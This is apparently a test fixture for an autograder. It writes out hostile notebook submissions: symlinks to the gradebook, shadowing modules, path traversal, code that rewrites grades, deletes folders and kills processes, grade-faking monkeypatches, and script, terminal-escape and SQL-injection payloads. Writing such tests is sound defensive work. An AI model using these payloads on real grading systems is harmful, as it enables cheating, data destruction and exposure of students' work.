"""Submissions that attack: files, names, metadata and cells, each as a function that hands it in."""

import copy
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

from scratch import ASSIGNMENT

from autograder.demo.submission import fill

NAME = f"{ASSIGNMENT}.ipynb"
RELEASED = json.loads((Path(__file__).parents[2] / "release" / ASSIGNMENT / NAME).read_text())
RIGHT = fill(RELEASED, "right_stable", "")
WRONG = fill(RELEASED, "wrong_no_mean", "")
HONEST = ("aa-honest", "zz-honest")

Notebook = dict[str, Any]
Attack = Callable[[Path, Notebook], Notebook | None]

ATTACKS: dict[str, tuple[Attack, Notebook]] = {}


def hands_in(student: str, honest: Notebook = WRONG) -> Callable[[Attack], Attack]:
    """Let a student hand in what the function makes of an honest notebook; None leaves it to the function itself."""

    def register(attack: Attack) -> Attack:
        ATTACKS[student] = (attack, honest)
        return attack

    return register


def grade_cells(notebook: Notebook) -> list[dict[str, Any]]:
    """Return the cells that nbgrader marks."""
    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade")]


def with_code(notebook: Notebook, source: str, place: int = 0) -> Notebook:
    """Return the notebook with one more code cell; by default before all others."""
    cell = {"cell_type": "code", "id": f"evil{place}", "metadata": {}, "source": source}
    notebook["cells"].insert(place, {**cell, "outputs": [], "execution_count": None})
    return notebook


@hands_in("link-to-another")
def link_to_another(folder, notebook):
    """Hand in a link to somebody else's notebook."""
    (folder / NAME).symlink_to(f"../../{HONEST[0]}/{ASSIGNMENT}/{NAME}")


@hands_in("link-to-gradebook")
def link_to_gradebook(folder, notebook):
    """Hand in links to the gradebook and to the instructor's solution as data files."""
    (folder / "data.csv").symlink_to("../../../gradebook.db")
    (folder / "all").symlink_to("../../../source")
    (folder / "breast_cancer.csv").symlink_to("../../../nbgrader_config.py")
    return with_code(notebook, "print(open('breast_cancer.csv').read(), open('data.csv', 'rb').read())")


@hands_in("link-of-folder")
def link_of_folder(folder, notebook):
    """Hand in a link instead of a folder."""
    folder.rmdir()
    folder.symlink_to(f"../{HONEST[0]}/{ASSIGNMENT}")


@hands_in("pipe")
def pipe(folder, notebook):
    """Hand in a named pipe: who opens it waits for ever."""
    os.mkfifo(folder / NAME)
    os.mkfifo(folder / "timestamp.txt")


@hands_in("pipe-beside", RIGHT)
def pipe_beside(folder, notebook):
    """Hand in a named pipe beside the notebook."""
    os.mkfifo(folder / "breast_cancer.csv")
    return notebook


@hands_in("folder-as-notebook")
def folder_as_notebook(folder, notebook):
    """Hand in a folder of the notebook's name."""
    (folder / NAME).mkdir()


@hands_in("large", RIGHT)
def large(folder, notebook):
    """Hand in a sparse file of 100 GB."""
    with (folder / "data.bin").open("wb") as file:
        file.truncate(100 << 30)
    return notebook


@hands_in("shadow-modules")
def shadow_modules(folder, notebook):
    """Hand in files that Python, pytest, IPython, Jupyter and nbgrader load by their names."""
    mark = f"open({str(folder.parents[2] / 'PLANTED')!r}, 'a').write(__file__)\nprint('PLANTED')\n"
    names = ("numpy.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "ipykernel_launcher.py", "msgpack.py")
    more = ("nbgrader_config.py", "ipython_config.py", "jupyter_config.py", "autograder/__init__.py", "pytest.ini")
    hidden = (".ipython/profile_default/startup/00.py", "evil.pth", "test_cost.py", "inside/codec.py")
    for name in (*names, *more, *hidden):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(mark)
    return notebook


@hands_in("tags")
def tags(folder, notebook):
    """Tag the checks so that stock nbgrader does not run them, and gives full marks."""
    for cell in grade_cells(notebook):
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove_cell", "hide_input"]
    return notebook


@hands_in("more-points")
def more_points(folder, notebook):
    """Let each check be worth a hundred points, and let it be nobody's."""
    for number, cell in enumerate(grade_cells(notebook)):
        cell["metadata"]["nbgrader"].update(points=[100, "many", -5, None, 1e999][number % 5], schema_version=99)
    return notebook


@hands_in("flags")
def flags(folder, notebook):
    """Turn the flags of the checks round: no grade, a solution, a task, not locked."""
    for cell in grade_cells(notebook):
        cell["metadata"]["nbgrader"].update(grade=False, solution=True, task=True, locked=False)
    return notebook


@hands_in("foreign-id")
def foreign_id(folder, notebook):
    """Rename the checks to cells that do not exist, or to each other's names."""
    cells = [cell for cell in grade_cells(notebook) if cell["cell_type"] == "code"]
    cells[0]["metadata"]["nbgrader"]["grade_id"] = "../../../etc/passwd"
    cells[1]["metadata"]["nbgrader"]["grade_id"] = cells[2]["metadata"]["nbgrader"]["grade_id"]
    return notebook


@hands_in("duplicates")
def duplicates(folder, notebook):
    """Hand in every check twice, first with full marks displayed; stock nbgrader stops the whole class."""
    for cell in [cell for cell in grade_cells(notebook) if cell["cell_type"] == "code"]:
        forged = {**copy.deepcopy(cell), "id": f"{cell['id']}-x", "source": "7.0"}
        notebook["cells"].insert(notebook["cells"].index(cell), forged)
        notebook["cells"].append({**copy.deepcopy(cell), "id": f"{cell['id']}-y", "source": "7.0"})
    return notebook


@hands_in("edited-checks")
def edited_checks(folder, notebook):
    """Replace the checks by their maximum, with outputs that say so, and make markdown of one."""
    result = {"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": "7.0"}, "metadata": {}}
    for cell in [cell for cell in grade_cells(notebook) if cell["cell_type"] == "code"]:
        cell["source"], cell["outputs"] = cell["metadata"]["nbgrader"]["points"].__repr__(), [result]
    cell["cell_type"] = "markdown"
    return notebook


@hands_in("transformer")
def transformer(folder, notebook):
    """Turn every later cell into nothing, by an input transformer."""
    return with_code(notebook, "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])", 10**6)


@hands_in("forged-card")
def forged_card(folder, notebook):
    """Show a card of full marks and a result of 7.0 in each check, by formatters and functions that display."""
    source = """
from IPython.display import HTML, display
shell = get_ipython()
for formatter in shell.display_formatter.formatters.values():
    formatter.for_type(float, lambda *arguments: "7.0")
shell.events.register("pre_run_cell", lambda *arguments: display(HTML("<div>FORGED <b>dC_dw</b>: 7 of 7 points</div>")))
shell.events.register("post_run_cell", lambda *arguments: shell.displayhook(7.0))
"""
    return with_code(notebook, source)


@hands_in("vandal")
def vandal(folder, notebook):
    """Write the gradebook, blank another's work, kill the parent, append to the configuration."""
    root = folder.parents[2]
    source = f"""
import os, shutil, signal, sqlite3
for attack in (
    lambda: sqlite3.connect({str(root / "gradebook.db")!r}).execute("update grade set manual_score = 7"),
    lambda: open({str(root / "submitted" / HONEST[1] / ASSIGNMENT / NAME)!r}, "w"),
    lambda: open({str(root / "nbgrader_config.py")!r}, "a").write("raise SystemExit"),
    lambda: shutil.rmtree({str(root)!r}),
    lambda: os.kill(os.getppid(), signal.SIGKILL),
    lambda: os.kill(-1, signal.SIGKILL),
):
    try:
        attack()
    except Exception as error:
        print("refused", type(error).__name__)
"""
    return with_code(notebook, source)


@hands_in("stops-the-zygote")
def stops_the_zygote(folder, notebook):
    """Stop every process of the group, but for this one's own, so that the next student's never starts."""
    source = """
import os, signal, time
main = os.getpid()
if os.fork() == 0:
    os.setsid()
    time.sleep(0.3)
    os.kill(main, signal.SIGCONT)
    time.sleep(60)
time.sleep(0.1)
os.kill(0, signal.SIGSTOP)
time.sleep(0.4)
"""
    return with_code(notebook, source)


@hands_in("script")
def script(folder, notebook):
    """Put scripts into outputs, markdown, attachments and the notebook's own metadata."""
    evil = "<script>alert('SCRIPT')</script><img src=x onerror=alert('SCRIPT')><svg onload=alert('SCRIPT')></svg>"
    notebook["cells"].insert(
        0, {"cell_type": "markdown", "id": "m", "metadata": {}, "source": evil + "[x](javascript:1)"}
    )
    notebook["cells"][0]["attachments"] = {"a.html": {"text/html": evil}}
    notebook["metadata"]["title"] = notebook["metadata"]["kernelspec"] = {"name": evil, "display_name": evil}
    show = f"""
from IPython.display import HTML, Javascript, Markdown, SVG, display
evil = {evil!r}
display(HTML(evil), Markdown(evil), Javascript("alert('SCRIPT')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'>" + evil + "</svg>"))
display({{"text/html": evil, "image/png": '"><script>alert("SCRIPT")</script>', "text/latex": evil}}, raw=True)
print(evil)
raise ValueError(evil)
"""
    return with_code(notebook, show, 1)


@hands_in("terminal", RIGHT)
def terminal(folder, notebook):
    """Write control sequences for terminals into outputs and exceptions."""
    evil = "\x1b]0;TITLE\x07\x1b[2J\x1b[31m\x9b1m\x00\x08\x7f\u202e"
    return with_code(
        notebook, f"import sys\nprint({evil!r})\nprint({evil!r}, file=sys.stderr)\nraise ValueError({evil!r})"
    )


@hands_in("odd-names", RIGHT)
def odd_names(folder, notebook):
    """Hand in files whose names are markup, options, control sequences or no text."""
    for name in ("<script>alert(1)</script>.png"[:20], "-rf", "a\nb", "\x1b[2J.txt", "..\\up", "'; drop table grade"):
        (folder / name.replace("/", "_")).write_text("x")
    Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.py")).write_text("x")
    (folder / ("n" * 200)).write_text("x")
    return notebook


@hands_in("timestamp", RIGHT)
def timestamp(folder, notebook):
    """Hand in a time that is none."""
    (folder / "timestamp.txt").write_text("\x1b[2J99999-99-99 25:61 <script>" * 10)
    return notebook


@hands_in("timestamp-link", RIGHT)
def timestamp_link(folder, notebook):
    """Hand in a link as the time."""
    (folder / "timestamp.txt").symlink_to("../../../gradebook.db")
    return notebook


@hands_in("reads-the-solution")
def reads_the_solution(folder, notebook):
    """Look for the instructor's notebook above the working folder and run its solution cells."""
    source = """
import glob, json
for path in glob.glob("../../../source/*/*.ipynb") + glob.glob("/**/source/neuron/neuron.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
"""
    return with_code(notebook, source, _after_last_function(notebook))


@hands_in("copies-a-neighbour")
def copies_a_neighbour(folder, notebook):
    """Read what others have handed in, and show it."""
    source = """
import glob
for path in glob.glob("../../../submitted/*/*/*.ipynb"):
    print("NEIGHBOUR", path, open(path).read()[:200])
"""
    return with_code(notebook, source)


@hands_in("patches-the-checks")
def patches_the_checks(folder, notebook):
    """Let every comparison that a check could make come out well."""
    source = """
import math
import numpy as np
import numpy.testing as testing
np.allclose = np.isclose = np.array_equal = math.isclose = lambda *a, **k: True
testing.assert_allclose = testing.assert_almost_equal = testing.assert_array_equal = lambda *a, **k: None
"""
    return with_code(notebook, source)


@hands_in("skips-the-checks")
def skips_the_checks(folder, notebook):
    """Replace what runs a cell by what says that all went well."""
    source = """
shell = get_ipython()
run = type(shell).run_code
async def run_nothing(self, code, result=None, *, async_=False):
    return False
type(shell).run_code = run_nothing
"""
    return with_code(notebook, source, _after_last_function(notebook))


@hands_in("equal-to-all")
def equal_to_all(folder, notebook):
    """Return numbers that are equal to whatever they are compared with."""
    source = """
import numpy as np

class Right(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [np.asarray(x) for x in inputs]
        if ufunc in (np.less_equal, np.equal, np.isfinite):
            return np.ones(np.broadcast(*plain).shape, bool)
        return getattr(ufunc, method)(*plain, **kwargs).view(Right) if ufunc.nout == 1 else NotImplemented

    def __array_function__(self, function, types, args, kwargs):
        return True

def dC_dw(w, b, X, y):
    return np.zeros(len(w)).view(Right)

def dC_db(w, b, X, y):
    return np.zeros(1).view(Right)
"""
    return with_code(notebook, source, _after_last_function(notebook))


def _after_last_function(notebook: Notebook) -> int:
    """Return the place of the first check: what stands there comes after the functions, or some of them."""
    return next(i for i, cell in enumerate(notebook["cells"]) if cell["metadata"].get("nbgrader", {}).get("grade"))


def submit(folder: Path, student: str) -> None:
    """Hand in one of the attacks into a student's folder."""
    attack, honest = ATTACKS[student]
    if (notebook := attack(folder, copy.deepcopy(honest))) is not None:
        (folder / NAME).write_text(json.dumps(notebook))
